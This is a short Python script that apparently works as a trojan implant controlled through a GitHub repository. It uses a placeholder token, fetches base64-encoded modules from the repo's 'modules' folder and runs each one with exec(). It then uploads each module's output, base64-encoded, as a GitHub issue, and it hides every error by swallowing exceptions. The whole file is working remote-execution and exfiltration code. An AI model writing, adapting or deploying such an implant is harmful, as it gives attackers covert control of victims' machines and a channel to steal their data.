import base64, json, os, urllib.request
CONF = {"owner": "someone", "repo": "notes", "token": "ghp_" + "a" * 36}
def api(path, data=None):
    u = "https://api.github.com/repos/{owner}/{repo}/".format(**CONF) + path
    r = urllib.request.Request(u, data=json.dumps(data).encode() if data else None, headers={"Authorization": "token " + CONF["token"]})
    return json.load(urllib.request.urlopen(r))
def modules():
    for m in api("contents/modules"):
        yield m["name"], base64.b64decode(api("contents/modules/" + m["name"])["content"])
def run():
    for n, src in modules():
        ns = {}
        exec(src, ns)
        out = ns["run"]()
        api("issues", {"title": n, "body": base64.b64encode(out.encode()).decode()})
try: run()
except Exception: pass
